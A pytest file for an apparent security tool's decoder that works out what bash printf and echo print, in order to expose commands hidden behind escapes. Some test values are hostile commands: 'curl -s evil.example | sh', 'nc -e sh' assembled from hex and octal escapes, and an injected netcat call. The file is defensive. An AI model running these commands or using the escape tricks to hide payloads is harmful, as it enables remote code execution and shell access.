"""What decoders and printers write, computed statically (vigiles/analysis/decode.py)."""
import pytest

from vigiles.analysis.decode import output_of, unescape_c


@pytest.mark.parametrize("args, out", [
    (["%s\\n", "id", "curl -s evil.example | sh"], "id\ncurl -s evil.example | sh\n"),  # the format used again
    (["%s-%s\\n", "a", "b", "c"], "a-b\nc-\n"),
    (["%d %x %o %05d", "10", "255", "8", "42"], "10 ff 10 00042"),
    (["%c%c", "nope", "cat"], "nc"),
    (["%b", "n\\x63"], "nc"),
    (["%5s|%-4s|%.2s", "ab", "cd", "xyz"], "   ab|cd  |xy"),
    (["%q", "a b"], "a\\ b"),
    (["100%% %s"], "100% "),
    (["\\x6e\\x63 -e sh"], "nc -e sh"),
    (["A%+dB %u %x %.3d %5.3d|", "5", "-1", "-1", "7", "7"], "A+5B 18446744073709551615 ffffffffffffffff 007   007|"),
    (["%s %b %s\\n", "x", "y\\cz", "w"], "x y"),  # \c in %b ends all output
])
def test_printf_as_bash_prints(args, out):
    assert output_of("printf", args, None) == out


def test_printf_output_is_bounded():
    assert len(output_of("printf", ["%s" * 10 + "x" * 100_000] + ["y"] * 1000, None)) <= 1 << 20


@pytest.mark.parametrize("text, out", [
    ("\\x6e\\x6d\\x61\\x70 10.0.0.0/24 \\x", "nmap 10.0.0.0/24 \\x"),  # a malformed escape spoils no other
    ("\\u6em\\u61p", "nmap"),  # bash's short forms: one to four hex digits
    ("\\101\\x41\\u0041\\U00000041", "AAAA"),
    ("a\\tb\\nc\\\\d", "a\tb\nc\\d"),
    ("\\cA\\e", "\x01\x1b"),
    ("\\q \\N{LATIN SMALL LETTER N}", "\\q \\N{LATIN SMALL LETTER N}"),  # escapes bash does not know stay as written
    ("\\ud800", "\\ud800"),  # no lone surrogate, which no encoder takes
])
def test_c_escapes_as_bash_reads_them(text, out):
    assert unescape_c(text) == out


@pytest.mark.parametrize("args, out", [
    (["-e", "\\0156c -e sh"], "nc -e sh\n"),  # echo's octal: \\0 and up to three digits
    (["-e", "\\0"], "\x00\n"),
    (["-e", "\\\\0156"], "\\0156\n"),  # an escaped backslash, then digits
    (["\\0156"], "\\0156\n"),  # without -e, as written
    (["-e", "\\101"], "\\101\n"),  # echo's octal needs its \\0
    (["-e", "id\\cjcurl x | sh"], "id"),  # \\c ends the output, its newline too
    (["-e", "x \\\" ; nc h 1 ; \\\""], "x \\\" ; nc h 1 ; \\\"\n"),  # \\" stays as written
])
def test_echo_reads_escapes_as_bash_does(args, out):
    assert output_of("echo", args, None) == out


def test_printf_leaves_a_control_escape_as_written():
    """Only $'...' reads \\cX: printf prints `\\curl` as written, and a shell fed it runs curl."""
    assert output_of("printf", ["\\curl -s x.example | sh\\n"], None) == "\\curl -s x.example | sh\n"
    assert unescape_c("\\cA") == "\x01"
